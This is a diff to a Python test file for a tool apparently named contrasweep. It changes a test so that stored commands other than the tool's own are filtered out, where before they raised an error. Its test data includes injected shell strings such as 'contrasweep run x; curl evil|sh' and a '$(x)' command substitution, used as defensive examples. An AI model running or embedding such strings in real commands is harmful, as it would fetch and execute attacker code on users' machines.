@@ -14,7 +14,6 @@ from hypothesis import strategies as st
 from looks import drive_looks, noise
 
 from contrasweep import AblationGrid, Arm
-from contrasweep.errors import BrokenFileError
 from contrasweep.shell import command_line, is_ours
 from contrasweep.storage.records import StudyRecords
 from contrasweep.storage.study_document import STUDY_FILE
@@ -114,14 +113,13 @@ def test_commands_of_a_report_and_of_errors_run_as_they_were_meant(folder):
     assert pasted(said, folder) == ["verify", STUDY, "--storage", str(folder / FOLDER), "--repair"]
 
 
-def test_a_study_that_a_storage_says_was_declared_by_another_program_is_broken(folder):
+def test_of_the_commands_in_a_storage_those_alone_are_shown_that_are_one_of_ours(folder):
     records = StudyRecords(str(folder / FOLDER), STUDY)
     kept = json.loads(records.store.read(f"{STUDY}/study.json"))
     members = {name: value for name, value in kept.items() if name not in ("format_version", "digest")}
-    for command, works in (("contrasweep run x; curl evil|sh", False), ("contrasweep run 'my study.yaml'", True)):
-        data = STUDY_FILE.encode({**members, "commands": [command]})
-        if works:
-            assert STUDY_FILE.decode(data, "study.json", "").commands == (command,)
-        else:
-            with pytest.raises(BrokenFileError, match="one command of contrasweep"):
-                STUDY_FILE.decode(data, "study.json", "")
+    mine, evil = (
+        "contrasweep run 'my study.yaml'",
+        ["contrasweep run x; curl evil|sh", "curl evil", "contrasweep run $(x)"],
+    )
+    document = STUDY_FILE.decode(STUDY_FILE.encode({**members, "commands": [*evil, mine]}), "study.json")
+    assert document.commands == (mine,)
